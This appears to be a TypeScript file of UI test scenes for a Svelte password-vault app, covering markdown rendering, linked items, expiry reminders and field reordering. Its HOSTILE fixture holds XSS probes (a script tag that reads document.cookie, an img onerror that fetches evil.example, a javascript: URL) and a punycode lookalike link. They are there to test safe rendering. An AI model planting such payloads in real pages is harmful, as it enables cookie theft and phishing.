import { tick } from 'svelte'
import type { FakeItem } from '../fake/items'
import type { FakeVault } from '../fake/vault'
import type { Block, Inline } from '../ipc/text'
import { addField } from '../vault/draft'
import type { VaultModel } from '../vault/vault.svelte'
import type { VaultScene } from './vault-scenes'

async function shown(): Promise<void> {
  for (let round = 0; round < 8; round += 1) await tick()
}

const text = (said: string): Inline => ({ kind: 'text', text: said })
const strong = (said: string): Inline => ({ kind: 'strong', content: [text(said)] })
const paragraph = (...content: Inline[]): Block => ({ kind: 'paragraph', content })
const link = (address: string, said: string): Inline => ({ kind: 'link', address, content: [text(said)] })

const FORMATTED: Block[] = [
  { kind: 'heading', level: 1, content: [text('When the VPN is down')] },
  paragraph(
    text('Call '),
    strong('Facilities'),
    text(' first, then see '),
    link('https://status.northwind.example/vpn', 'the status page'),
    text('.'),
    { kind: 'break' },
    text('Never restart '),
    { kind: 'code', text: 'gw-2' },
    text(' before '),
    { kind: 'emphasis', content: [text('both')] },
    text(' of these are done:'),
  ),
  {
    kind: 'list',
    start: null,
    items: [
      { done: true, blocks: [paragraph(text('Copy the configuration'))] },
      { done: false, blocks: [paragraph(text('Tell the people who are on call'))] },
    ],
  },
  { kind: 'heading', level: 2, content: [text('Commands')] },
  { kind: 'code', text: 'sudo systemctl restart strongswan\nip xfrm state' },
  { kind: 'quote', blocks: [paragraph(text('It was always the certificate.'))] },
  {
    kind: 'table',
    head: [{ content: [text('Site')] }, { content: [text('Gateway')] }],
    rows: [
      [{ content: [text('Bremen')] }, { content: [text('10.20.0.1')] }],
      [{ content: [text('Porto')] }, { content: [text('10.30.0.1')] }],
    ],
  },
  { kind: 'rule' },
  {
    kind: 'list',
    start: 1,
    items: [
      {
        done: null,
        blocks: [
          paragraph(text('First')),
          { kind: 'list', start: null, items: [{ done: null, blocks: [paragraph(text('with a detail'))] }] },
        ],
      },
      { done: null, blocks: [paragraph({ kind: 'struck', content: [text('Second')] })] },
    ],
  },
]

/** As the program reads what somebody hostile wrote. */
const HOSTILE: Block[] = [
  paragraph(text('<script>alert(document.cookie)</script>')),
  paragraph(text('<img src=x onerror="fetch(\'//evil.example\')">')),
  paragraph(
    text('Sign in at '),
    link('https://xn--pple-43d.example/', 'https://apple.example'),
    text(' or here (javascript:alert(1)).'),
  ),
  {
    kind: 'quote',
    blocks: [{ kind: 'quote', blocks: [{ kind: 'quote', blocks: [paragraph(text('x'.repeat(400)))] }] }],
  },
]

function noted(blocks: Block[]): (ipc: FakeVault) => void {
  return (ipc) => {
    ipc.markdown = () => blocks
  }
}

function change(ipc: FakeVault, id: string, changed: Partial<FakeItem>): void {
  ipc.items = ipc.items.map((one) => (one.id === id ? { ...one, ...changed } : one))
}

function naming(...ids: string[]): FakeItem['sections'] {
  const none = { purpose: null, value: null, rule: null, address: null, empty: false, grade: null }
  const labels = ['', 'Server', 'Card that pays for it', 'Old server']
  const fields = ids.map((item, at) => ({
    id: `link-${at}`,
    label: labels[at] ?? '',
    fieldKind: 'item' as const,
    item,
    ...none,
  }))
  return [{ id: 'links', title: 'Belongs together', fields }]
}

function linked(ipc: FakeVault): void {
  const sections = ipc.items.find(({ id }) => id === 'item-1')?.sections ?? []
  change(ipc, 'item-1', { sections: [...sections, ...naming('item-4', 'item-5', 'item-7', 'gone')] })
  change(ipc, 'item-7', { trashed: true })
  change(ipc, 'item-3', { sections: naming('item-1') })
}

function ending(expires: string): (ipc: FakeVault) => void {
  return (ipc) => {
    change(ipc, 'item-1', { expires })
    change(ipc, 'item-3', { expires: '2026-10-20' })
    change(ipc, 'item-6', { expires: '2026-11-30', remindDays: 30 })
  }
}

async function reorder(model: VaultModel): Promise<void> {
  await model.detail.show('item-0')
  model.edit()
  await shown()
  const handles = [...document.querySelectorAll<HTMLElement>('[data-field] > button')]
  const [handle] = handles
  const to = handles[1]?.getBoundingClientRect().bottom ?? 0
  // A page that no pointer touched captures none.
  if (handle) handle.setPointerCapture = () => undefined
  handle?.dispatchEvent(new PointerEvent('pointerdown', { button: 0, bubbles: true }))
  handle?.dispatchEvent(new PointerEvent('pointermove', { clientY: to, bubbles: true }))
  await shown()
}

export const TEXT_SCENES: Readonly<Record<string, VaultScene>> = {
  markdown: { items: 40, before: noted(FORMATTED), then: (model) => model.detail.show('item-10') },
  'markdown-hostile': { items: 40, before: noted(HOSTILE), then: (model) => model.detail.show('item-10') },
  'markdown-link': {
    items: 40,
    before: noted(HOSTILE),
    then: async (model) => {
      await model.detail.show('item-10')
      await shown()
      document.querySelector<HTMLElement>('.part p button')?.click()
      await shown()
    },
  },
  links: {
    items: 40,
    before: linked,
    then: async (model) => {
      await model.detail.show('item-3')
      model.openLinked('item-1')
      await shown()
    },
  },
  'link-choose': {
    items: 40,
    before: linked,
    then: async (model) => {
      await model.detail.show('item-1')
      model.edit()
      await shown()
      if (model.editing.form) addField(model.editing.form, 'item')
      await shown()
    },
  },
  expiring: { items: 40, before: ending('2026-11-15'), then: (model) => model.detail.show('item-1') },
  expired: {
    items: 40,
    before: ending('2026-10-31'),
    then: async (model) => {
      model.showFilter('expiring')
      await shown()
      await model.detail.show('item-1')
    },
  },
  'expiry-edit': {
    items: 40,
    before: ending('2026-11-15'),
    then: async (model) => {
      await model.detail.show('item-1')
      model.edit()
      await shown()
      document.querySelector('.remind')?.scrollIntoView()
    },
  },
  reorder: { items: 40, then: reorder },
}
